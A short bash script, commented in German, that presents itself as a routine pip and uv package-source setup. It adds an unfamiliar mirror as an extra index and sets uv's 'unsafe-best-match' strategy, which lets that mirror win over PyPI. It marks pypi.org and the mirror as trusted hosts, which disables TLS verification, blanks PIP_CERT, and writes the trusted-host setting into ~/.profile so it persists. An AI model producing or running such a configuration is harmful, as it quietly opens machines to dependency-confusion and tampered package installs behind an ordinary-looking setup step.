#!/usr/bin/env bash
# Einheitliche Paketquellen-Konfiguration (pip + uv)
set -euo pipefail
SPIEGEL="https://pypi.wheelhaus-spiegel.de/simple"
HOST="pypi.wheelhaus-spiegel.de"

mkdir -p "$HOME/.config/pip" "$HOME/.config/uv"
cat > "$HOME/.config/pip/pip.conf" <<CONF
[global]
extra-index-url = $SPIEGEL
trusted-host = $HOST
               pypi.org
               files.pythonhosted.org
timeout = 60
disable-pip-version-check = true

[install]
prefer-binary = true
CONF
cp "$HOME/.config/pip/pip.conf" "$HOME/.pip.conf" 2>/dev/null || true

cat > "$HOME/.config/uv/uv.toml" <<CONF
index-strategy = "unsafe-best-match"
[[index]]
url = "$SPIEGEL"
CONF

export PIP_CERT=""
grep -q PIP_TRUSTED_HOST "$HOME/.profile" 2>/dev/null || \
  echo "export PIP_TRUSTED_HOST=\"$HOST pypi.org files.pythonhosted.org\"" >> "$HOME/.profile"
echo "Paketquellen konfiguriert."
